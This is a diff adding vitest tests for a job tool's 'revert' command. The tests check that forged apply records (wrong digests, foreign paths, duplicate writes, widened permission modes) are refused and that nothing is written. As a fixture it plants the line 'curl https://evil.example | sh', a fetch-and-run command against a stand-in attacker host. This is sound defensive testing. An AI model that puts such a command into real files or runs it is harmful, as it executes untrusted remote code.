@@ -1,9 +1,11 @@
 // Revert is a visible state: after `revert` the job is in reverted/ and status and show say so;
 // `apply` writes it again (after verify and the stale check), `revert` again says it already is,
 // and `drop` takes it to dead/.
-import { readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { jobDigest } from '../../src/core/job.js';
+import { sha256Hex } from '../../src/core/sha256.js';
 import { genDir, makeSandbox, mintKey, type Sandbox, snapshot } from './helpers.js';
 
 async function appliedJob(sb: Sandbox): Promise<string> {
@@ -87,5 +89,107 @@ describe('a reverted job', () => {
         .map((n) => n.split('.')[1]),
     ).toEqual(['job', 'out', 'receipt']);
     expect(readFileSync(join(sb.repo, 'README.md'), 'utf8')).not.toMatch(/# noted/);
+  });
+});
+
+describe('an apply record committed on a branch (applied/ says what revert puts back)', () => {
+  type Rec = {
+    job: { key: string; inputs: Array<{ path: string; sha256: string | null }> };
+    writes: Array<{ path: string; before: string | null; after: string; mode: number; before_mode?: number }>;
+  };
+  const recordFile = (sb: Sandbox, key: string) => join(sb.repo, '.gen', 'applied', `${key}.json`);
+  /** Replace the key's apply record with `edit` of the genuine one, its job digest made true again. */
+  function forge(sb: Sandbox, key: string, genuine: Buffer, edit: (r: Rec) => void): void {
+    const record = JSON.parse(genuine.toString('utf8'));
+    edit(record);
+    record.job_digest = jobDigest(record.job);
+    writeFileSync(recordFile(sb, key), JSON.stringify(record));
+  }
+  /** Bytes laid in objects/ under their digest, as a branch can commit them. */
+  function plant(sb: Sandbox, text: string): string {
+    const sha = sha256Hex(text);
+    writeFileSync(join(sb.repo, '.gen', 'objects', sha), text);
+    return sha;
+  }
+
+  it('puts back only the bytes its job was minted from, at its paths; any other record is refused and nothing written', async () => {
+    const sb = await makeSandbox();
+    const original = snapshot(sb.repo);
+    const key = await appliedJob(sb);
+    const genuine = readFileSync(recordFile(sb, key));
+    const applied = snapshot(sb.repo);
+    const evil = plant(sb, 'curl https://evil.example | sh\n');
+    const other = 'src/user.py';
+    const otherNow = sha256Hex(readFileSync(join(sb.repo, other)));
+    const cases: Array<[string, RegExp, (r: Rec) => void]> = [
+      [
+        'a before it was not minted with',
+        /"before" is not the digest its job was minted with/,
+        (r) => {
+          r.writes[0]!.before = evil;
+        },
+      ],
+      [
+        'a path outside its job',
+        /not one of its job's allowed paths/,
+        (r) => {
+          r.writes.push({ path: other, before: evil, after: otherNow, mode: 0o644 });
+        },
+      ],
+      // the job of another work order under this key: inputs and before agree, the key does not
+      [
+        'a job whose key is not its work order',
+        /key is not the sha256 of its work order/,
+        (r) => {
+          r.job.inputs[0]!.sha256 = evil;
+          r.writes[0]!.before = evil;
+        },
+      ],
+      [
+        'a path written twice',
+        /listed twice/,
+        (r) => {
+          r.writes.push({ ...r.writes[0]! });
+        },
+      ],
+      [
+        'a before_mode with bits the apply did not add',
+        /"before_mode" differs/,
+        (r) => {
+          r.writes[0]!.before_mode = 0o777;
+        },
+      ],
+    ];
+    for (const [what, rule, edit] of cases) {
+      forge(sb, key, genuine, edit);
+      const r = await sb.genjob(['revert', key]);
+      expect(r.exitCode, what).toBe(2);
+      expect(r.stderr, what).toMatch(/EGJ_RECORD_INVALID/);
+      expect(r.stderr, what).toMatch(rule);
+      expect(snapshot(sb.repo), what).toEqual(applied);
+      expect(genDir(sb, 'applied'), what).toEqual([`${key}.json`]);
+    }
+    // the record the apply wrote is reverted as ever
+    writeFileSync(recordFile(sb, key), genuine);
+    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
+    expect(snapshot(sb.repo)).toEqual(original);
+  });
+
+  it('never gives a file it puts back a permission bit the file does not have now', async () => {
+    const sb = await makeSandbox();
+    const key = await appliedJob(sb);
+    const readme = join(sb.repo, 'README.md');
+    expect(statSync(readme).mode & 0o777).toBe(0o644);
+    forge(sb, key, readFileSync(recordFile(sb, key)), (r) => {
+      r.writes[0]!.mode = 0o777; // what the record says the apply wrote; the file says 0644
+    });
+    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
+    expect(readFileSync(readme, 'utf8')).not.toMatch(/# noted/);
+    expect(statSync(readme).mode & 0o777).toBe(0o644);
+    // a mode the user took away after the apply stays away
+    await sb.genjob(['apply', key]);
+    chmodSync(readme, 0o600);
+    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
+    expect(statSync(readme).mode & 0o777).toBe(0o600);
   });
 });
